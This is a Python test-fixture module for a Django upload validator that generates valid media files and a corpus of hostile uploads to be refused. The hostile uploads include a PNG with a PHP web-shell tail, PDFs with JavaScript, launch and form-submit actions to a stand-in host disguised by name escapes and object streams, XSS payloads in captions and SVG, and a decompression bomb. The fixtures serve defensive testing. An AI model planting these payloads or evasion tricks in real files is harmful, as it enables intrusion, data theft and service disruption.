"""Files made by the tests: good photos and videos, and a corpus of hostile uploads."""

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

VTT = b"WEBVTT\n\n00:00:00.000 --> 00:00:01.500\nHello, I am a therapist.\n"


def image_bytes(fmt: str = "JPEG", size=(640, 480), color=(40, 120, 160), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, fmt, **save)
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    """A JPEG carrying a camera model and GPS coordinates in its EXIF."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0110] = "Model X"
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (43.0, 39.0, 1.5)
    gps[3] = "W"
    gps[4] = (79.0, 23.0, 2.5)
    return image_bytes("JPEG", exif=exif.tobytes())


def pdf_bytes(
    *extra: bytes, open_action: bytes = b"", catalog: bytes = b"", pages: bytes = b"", page=b""
) -> bytes:
    """A one-page PDF with a cross-reference table, as scanners and printers write them; extra
    objects follow the page (numbered from 4), open_action names what runs when it opens, and
    catalog, pages and page add entries to those three dictionaries."""
    action = b" /OpenAction %s" % open_action if open_action else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R" + action + b" " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 " + pages + b" >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page + b" >>",
        *extra,
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def pdf_stream(content: bytes, entries: bytes = b"") -> bytes:
    """A compressed stream object: its words never appear in the file's bytes."""
    packed = zlib.compress(content)
    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        entries,
        len(packed),
        packed,
    )


PDF = pdf_bytes()


def pdf_with_object_stream(hidden: bytes) -> bytes:
    """A PDF 1.5 whose opening action, object 4, is compressed inside an object stream: its
    words never appear in the file's bytes."""
    head = b"4 0 "
    packed = zlib.compress(head + hidden)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        5: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s"
        b"\nendstream" % (len(head), len(packed), packed),
    }
    out, offsets = bytearray(b"%PDF-1.5\n"), {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 7):
        if number == 4:
            rows.append(struct.pack(">BIH", 2, 5, 0))  # the first object of stream 5
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n" % len(table)
    out += b"stream\n" + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


XFA_WITH_SCRIPT = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1">'
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b'app.launchURL("https://collect.example/?" + this.documentFileName);</script></event>'
    b"</subform></template></xdp:xdp>"
)


def hostile_pdfs() -> dict[str, bytes]:
    """Name -> bytes of evidence PDFs with active content, which evidence must refuse: each of
    the kinds a PDF reader acts on, hidden the ways a search of the raw bytes misses."""
    uri = b"<< /S /URI /URI (https://collect.example/) >>"
    return {
        "javascript opening action": pdf_bytes(
            b"<< /S /JavaScript /JS (app.alert(1)) >>", open_action=b"4 0 R"
        ),
        "xfa form with script": pdf_bytes(
            b"<< /Fields [] /XFA 5 0 R >>", pdf_stream(XFA_WITH_SCRIPT), catalog=b"/AcroForm 4 0 R"
        ),
        "xfa named in escapes": pdf_bytes(
            b"<< /Fields [] /X#46A 5 0 R >>",
            pdf_stream(XFA_WITH_SCRIPT),
            catalog=b"/AcroForm 4 0 R",
        ),
        "opening action to a web address": pdf_bytes(uri, open_action=b"4 0 R"),
        "opening web address in an object stream": pdf_with_object_stream(uri),
        "opening action submitting a form": pdf_bytes(
            b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> /Flags 4 >>",
            open_action=b"4 0 R",
        ),
        "submit form in an object stream": pdf_with_object_stream(
            b"<< /S /Subm#69tForm /F << /FS /URL /F (https://collect.example/) >> >>"
        ),
        "opening action importing data": pdf_bytes(
            b"<< /S /ImportData /F (data.fdf) >>", open_action=b"4 0 R"
        ),
        "opening action to another file": pdf_bytes(
            b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>", open_action=b"4 0 R"
        ),
        "opening action to an embedded file": pdf_bytes(
            b"<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>", open_action=b"4 0 R"
        ),
        "named opening action": pdf_bytes(b"<< /S /Named /N /Print >>", open_action=b"4 0 R"),
        "additional actions on the catalog": pdf_bytes(
            b"<< /S /Named /N /Print >>", catalog=b"/AA << /WC 4 0 R >>"
        ),
        "additional actions inherited from the page tree": pdf_bytes(
            b"<< /S /Named /N /Print >>", pages=b"/AA << /O 4 0 R >>"
        ),
        "link annotation to a web address": pdf_bytes(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 20] /A %s >>" % uri,
            page=b"/Annots [4 0 R]",
        ),
        "attached file": pdf_bytes(
            b"<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>",
            pdf_stream(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
            catalog=b"/Names << /Embedded#46iles << /Names [(run.exe) 4 0 R] >> >>",
        ),
        "rich media annotation": pdf_bytes(
            b"<< /Type /Annot /Subtype /R#69chMedia /Rect [0 0 200 20] >>",
            page=b"/Annots [4 0 R]",
        ),
        "launch action no page reaches": pdf_bytes(b"<< /S /L#61unch /F (calc.exe) >>"),
    }


def plain_pdfs() -> dict[str, bytes]:
    """Name -> bytes of evidence PDFs that only show pages, which evidence accepts."""
    return {
        "cross-reference table": PDF,
        "opening on a page": pdf_bytes(open_action=b"[3 0 R /Fit]"),
        "opening on a page by a go-to in an object stream": pdf_with_object_stream(
            b"<< /S /GoTo /D [3 0 R /FitH 792] >>"
        ),
        "link to a page": pdf_bytes(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 20] /Dest [3 0 R /Fit] >>",
            page=b"/Annots [4 0 R]",
        ),
    }


def hostile_captions() -> dict[str, bytes]:
    """Name -> bytes of WebVTT files holding markup that is not WebVTT's own."""
    cue = b"WEBVTT\n\n00:00:00.000 --> 00:00:02.000\n%s\n"
    return {
        "image with onerror": cue % b'Hello <img src=x onerror="alert(1)">',
        "script": cue % b"<script>alert(1)</script>",
        "iframe": cue % b'<iframe src="https://collect.example/"></iframe>',
        "link with javascript": cue % b'<a href="javascript:alert(1)">more</a>',
        "cue tag with an event handler": cue % b"<b onmouseover=alert(1)>Hello</b>",
        "voice with an event handler": cue % b'<v Sam" onclick="alert(1)>Hello</v>',
        "svg": cue % b"<svg onload=alert(1)>",
        "markup in a note": b"WEBVTT\n\nNOTE <img src=x onerror=alert(1)>\n\n"
        b"00:00:00.000 --> 00:00:02.000\nHello\n",
    }


# WebVTT's own cue tags, all of them: accepted as they are.
VTT_WITH_CUE_TAGS = (
    "WEBVTT\n\n00:00:00.000 --> 00:00:02.000\n<v Dr. Lee>Hello, <i>welcome</i>.</v>\n\n"
    "00:00:02.000 --> 00:00:04.000\n<c.yellow.bg_blue>Anxiety</c> &lt; <b>calm</b> <u>now</u>\n\n"
    "00:00:04.000 --> 00:00:06.000\n<lang fr-CA>Bonjour</lang> <ruby>漢<rt>kan</rt></ruby>\n"
    "<00:00:05.000>and <00:05.500>more\n"
).encode()


def mp4_box(kind: bytes, payload: bytes = b"", *, large=False, to_end=False) -> bytes:
    """An ISO BMFF box: its size and type; or size 1 and a 64-bit size after the type; or size 0,
    which says the box runs to the end of the file."""
    if large:
        return struct.pack(">I4sQ", 1, kind, 16 + len(payload)) + payload
    return struct.pack(">I4s", 0 if to_end else 8 + len(payload), kind) + payload


def hostile_videos() -> dict[str, tuple[bytes, str]]:
    """Name -> (bytes, what the refusal says) of MP4 files carrying more than their boxes."""
    mp4 = mp4_bytes(seconds=1)
    return {
        "mp4 with html appended": (
            mp4 + b"<html><body><script>alert(1)</script></body></html>",
            "extra data after its end",
        ),
        "mp4 with a doctype appended": (
            mp4 + b"<!doctype html><p>not a video</p>",
            "extra data after its end",
        ),
        "mp4 with a few bytes appended": (mp4 + b"\x00\x01", "extra data after its end"),
        "mp4 with a zip appended": (mp4 + b"PK\x03\x04" + b"\x00" * 40, "extra data after its end"),
        "mp4 cut short": (mp4[:-10], "This video is incomplete"),
    }


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 20_000) -> bytes:
    """A tiny PNG that claims side x side pixels (1-bit, all zero): a decompression bomb."""
    raw_row = b"\x00" * (1 + side // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(raw_row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def mp4_bytes(seconds: float = 2.0, fps: int = 10, size=(160, 120), codec="libx264") -> bytes:
    """A real H.264 MP4 made with PyAV: `seconds` long, coloured frames."""
    import av

    out = io.BytesIO()
    with av.open(out, mode="w", format="mp4") as container:
        stream = container.add_stream(codec, rate=fps)
        stream.width, stream.height = size
        stream.pix_fmt = "yuv420p"
        for n in range(round(seconds * fps)):
            frame = av.VideoFrame.from_image(Image.new("RGB", size, (n * 7 % 255, 90, 140)))
            for packet in stream.encode(frame):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return out.getvalue()


def webm_bytes(fmt: str = "webm", codec: str = "libvpx", fake_doctype: bool = False) -> bytes:
    """A real VP8 WebM made with PyAV; or a Matroska file whose header claims to be WebM."""
    import av

    out = io.BytesIO()
    with av.open(out, mode="w", format=fmt) as container:
        stream = container.add_stream(codec, rate=10)
        stream.width, stream.height = 64, 48
        stream.pix_fmt = "yuv420p"
        for n in range(10):
            frame = av.VideoFrame.from_image(Image.new("RGB", (64, 48), (n * 20, 90, 140)))
            for packet in stream.encode(frame):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    data = out.getvalue()
    if fake_doctype:
        data = data.replace(b"matroska", b"webm\x00\x00\x00\x00", 1)
    return data


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def hostile_images() -> dict[str, tuple[str, bytes]]:
    """Name -> (file name, bytes) of uploads a photo field must refuse."""
    png = image_bytes("PNG")
    jpeg = image_bytes("JPEG")
    return {
        "png with php tail": ("portrait.png", png + b"<?php system($_GET['c']); ?>"),
        "png with html tail": ("portrait.png", png + b"<html><script>alert(1)</script></html>"),
        "png with binary tail": ("portrait.png", png + b"\x00\x01PK\x03\x04junk"),
        "svg with script": (
            "portrait.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        ),
        "renamed exe": ("portrait.jpg", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),
        "decompression bomb": ("portrait.png", png_bomb()),
        "too many pixels": ("portrait.png", png_bomb(side=7000)),
        "truncated jpeg": ("portrait.jpg", jpeg[: len(jpeg) // 2]),
        "text named mp4": ("portrait.mp4", b"just some text, not a video at all\n"),
        "gif": ("portrait.gif", image_bytes("GIF")),
        "empty": ("portrait.jpg", b""),
        "oversized": ("portrait.jpg", jpeg + b"\x00" * (5 * 1024 * 1024)),
    }
